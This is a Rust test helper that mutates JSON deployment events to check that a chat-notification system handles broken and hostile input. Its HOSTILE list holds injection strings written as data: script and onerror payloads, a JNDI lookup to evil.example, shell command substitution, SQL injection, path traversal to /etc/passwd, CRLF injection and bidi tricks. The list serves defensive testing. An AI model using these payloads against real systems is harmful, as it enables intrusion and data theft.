//! An event, broken in every place, in every way that somebody or something might break it.

use serde_json::{Map, Value, json};

/// What somebody would write who can choose a tag, a name or a reason.
pub(super) const HOSTILE: [&str; 24] = [
    "",
    " ",
    "<!channel>",
    "<@U0123ABCD|you>",
    "@here",
    "&lt;!everyone&gt;",
    "<https://evil.example|shop-web>",
    "[shop-web](https://evil.example)",
    "```\n:white_check_mark: shipped",
    "*bold* _it_ ~gone~ `code`",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.example/x}",
    "$(touch /tmp/x); `id` | sh",
    "' OR 1=1 --",
    "../../../etc/passwd",
    "\r\nSubject: shipped\r\n\r\nall is well",
    "\u{0}\u{1}\u{7}\u{1b}[2J\u{1b}]0;x\u{7}",
    "\u{202e}bew-pohs\u{2066}\u{200b}\u{feff}",
    "\u{2028}\u{2029}\u{85}",
    "\",\"decision\":\"start\",\"x\":\"",
    "%s%n%x{}{0}",
    "\u{1f600}\u{fffd}\u{10ffff}\u{e000}",
    "sha256:cf9680c53ea013dda6c3cd0e3615f694d4dbb4d4c1c0cb002a0b2b2cc74c45b7\n",
];

/// What an event is like after one thing was done to it.
#[derive(Clone)]
pub(super) struct Mutation {
    /// Where it was done, and what.
    pub(super) what: String,
    pub(super) event: Value,
}

/// Each of these places of `event` broken in each of these ways.
pub(super) fn of(event: &Value, places: &[String], ways: &[Way]) -> Vec<Mutation> {
    let mut mutations = Vec::new();
    for place in places {
        for way in ways {
            let mut broken = event.clone();
            if way.at(place, &mut broken) {
                let what = format!("`{place}` {}", way.words());
                mutations.push(Mutation {
                    what,
                    event: broken,
                });
            }
        }
    }
    mutations
}

/// A way to break what is at a place.
#[derive(Clone)]
pub(super) enum Way {
    Removed,
    Replaced(Value),
    /// Text of which only the beginning is as it was.
    FollowedBy(String),
    /// An object that is sent as the list of its values.
    AsList,
    /// A list or an object with this in it, too.
    With(&'static str, Value),
}

impl Way {
    /// All kinds of JSON in place of the right one, and more of it than anybody wants.
    pub(super) fn kinds() -> Vec<Way> {
        let nested = (0..100).fold(json!([]), |inner, _| json!([inner]));
        let others = [
            json!(null),
            json!(true),
            json!(-1),
            json!(u64::MAX),
            json!(1.5e300),
            json!([]),
            json!({}),
            json!([null]),
            json!({"": {"": []}}),
            json!(["SUCCESS", "PUSH", "latest", "shop/web"]),
            nested,
            json!("x".repeat(20_000)),
            json!(vec![0; 2_000]),
        ];
        let with = [
            Way::With("a-field-of-tomorrow", json!({"x": [1]})),
            Way::With("\u{202e}<!channel>\n", json!("\u{0}")),
        ];
        [Way::Removed, Way::AsList]
            .into_iter()
            .chain(others.map(Way::Replaced))
            .chain(with)
            .collect()
    }

    /// Text of somebody who means harm, in place of the right one and behind it.
    pub(super) fn texts() -> Vec<Way> {
        let replaced = HOSTILE.iter().map(|text| Way::Replaced(json!(text)));
        let followed =
            ["\n", "<!channel>", "\u{202e}"].map(|text| Way::FollowedBy(text.to_owned()));
        replaced.chain(followed).collect()
    }

    /// Breaks what is at `place`; says whether this is a way to break it.
    fn at(&self, place: &str, event: &mut Value) -> bool {
        if let Way::Removed = self {
            return remove(place, event);
        }
        let Some(value) = event.pointer_mut(place) else {
            return false;
        };
        match (self, value) {
            (Way::Replaced(Value::String(other)), value)
                if other.len() < 1_000 && !value.is_string() =>
            {
                return false;
            }
            (Way::Replaced(other), value) if value != other => *value = other.clone(),
            (Way::FollowedBy(end), Value::String(text)) => text.push_str(end),
            (Way::AsList, value @ Value::Object(_)) => *value = in_order(value),
            (Way::With(name, more), Value::Object(members)) => {
                members.insert((*name).to_owned(), more.clone());
            }
            (Way::With(_, more), Value::Array(items)) => items.push(more.clone()),
            (
                Way::Removed | Way::Replaced(_) | Way::FollowedBy(_) | Way::AsList | Way::With(..),
                _,
            ) => return false,
        }
        true
    }

    fn words(&self) -> String {
        let cut = |value: String| value.chars().take(40).collect::<String>();
        match self {
            Way::Removed => "removed".to_owned(),
            Way::Replaced(other) => format!("replaced by {}", cut(other.to_string())),
            Way::FollowedBy(end) => format!("followed by {end:?}"),
            Way::AsList => "as a list".to_owned(),
            Way::With(name, _) => format!("with {name:?} in it"),
        }
    }
}

fn in_order(value: &Value) -> Value {
    value
        .as_object()
        .into_iter()
        .flat_map(Map::values)
        .cloned()
        .collect()
}

fn remove(place: &str, event: &mut Value) -> bool {
    let Some((parent, last)) = place.rsplit_once('/') else {
        return false;
    };
    match event.pointer_mut(parent) {
        Some(Value::Object(members)) => members
            .shift_remove(&last.replace("~1", "/").replace("~0", "~"))
            .is_some(),
        Some(Value::Array(items)) => last.parse().map(|index: usize| items.remove(index)).is_ok(),
        Some(Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_)) | None => false,
    }
}

/// Every place of an event as a JSON pointer, the event itself first.
pub(super) fn places(event: &Value) -> Vec<String> {
    let mut found = vec![String::new()];
    let below: Vec<(String, &Value)> = match event {
        Value::Object(members) => {
            let escaped = |name: &str| name.replace('~', "~0").replace('/', "~1");
            members
                .iter()
                .map(|(name, value)| (escaped(name), value))
                .collect()
        }
        Value::Array(items) => items
            .iter()
            .enumerate()
            .map(|(index, value)| (index.to_string(), value))
            .collect(),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => Vec::new(),
    };
    for (name, value) in below {
        found.extend(
            places(value)
                .into_iter()
                .map(|place| format!("/{name}{place}")),
        );
    }
    found
}
